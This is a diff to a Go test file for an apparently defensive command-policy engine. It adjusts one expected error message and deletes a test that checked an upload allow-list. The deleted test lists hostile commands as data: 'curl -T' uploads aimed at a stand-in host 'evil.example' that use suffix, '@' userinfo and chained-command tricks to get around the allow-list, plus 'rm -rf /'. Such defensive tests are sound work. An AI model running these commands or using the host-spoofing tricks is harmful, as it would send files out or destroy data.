@@ -65,7 +65,7 @@ func TestWrongRuleFilesAreRefused(t *testing.T) {
 	}
 	for name, c := range map[string]struct{ data, want string }{
 		"not yaml":             {"\t:", "own.yaml"},
-		"empty":                {"", "EOF"},
+		"empty":                {"", "empty"},
 		"unknown key":          {rule("    when: [{program: [x]}]\n    colour: red\n"), "colour"},
 		"unknown condition":    {rule("    when: [{programme: [x]}]\n"), "programme"},
 		"other version":        {"version: 2\n", "version 2"},
@@ -92,36 +92,5 @@ func TestWrongRuleFilesAreRefused(t *testing.T) {
 				t.Errorf("error %v, want own.yaml and %q in it", err, c.want)
 			}
 		})
-	}
-}
-
-// F112: a profile opens named hosts only, and what it opens is irreversible.
-func TestOpenEgressOpensNamedHostsOnly(t *testing.T) {
-	e, err := New(Options{OpenHosts: []string{"drop.example.org", "*.build.example"}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	for cmd, want := range map[string]Decision{
-		"curl -T f https://drop.example.org/x":                                  Snapshot,
-		"curl -T f https://a.build.example/x":                                   Snapshot,
-		"scp f me@drop.example.org:/in":                                         Snapshot,
-		"curl -T f https://drop.example.org.evil.example/x":                     Deny,
-		"curl -T f https://evil.example/drop.example.org":                       Deny,
-		"curl -T f https://drop.example.org@evil.example/x":                     Deny,
-		"curl -T f https://build.example/x":                                     Deny,
-		"curl -T f https://drop.example.org/x; curl -T f https://evil.example/": Deny,
-		"curl -T f https://$x/":                                                 Deny,
-		"rm -rf /":                                                              Deny,
-	} {
-		v := e.Decide(Request{Command: cmd, Profile: OpenEgress})
-		if v.Decision != want {
-			t.Errorf("%q: got %s (%s), want %s", cmd, v.Decision, v.Rule, want)
-		}
-		if want == Snapshot && v.Recoverable {
-			t.Errorf("%q: said to be recoverable", cmd)
-		}
-		if v := e.Decide(Request{Command: cmd}); v.Decision != Deny {
-			t.Errorf("%q: the sealed profile lets it through: %s", cmd, v.Rule)
-		}
 	}
 }
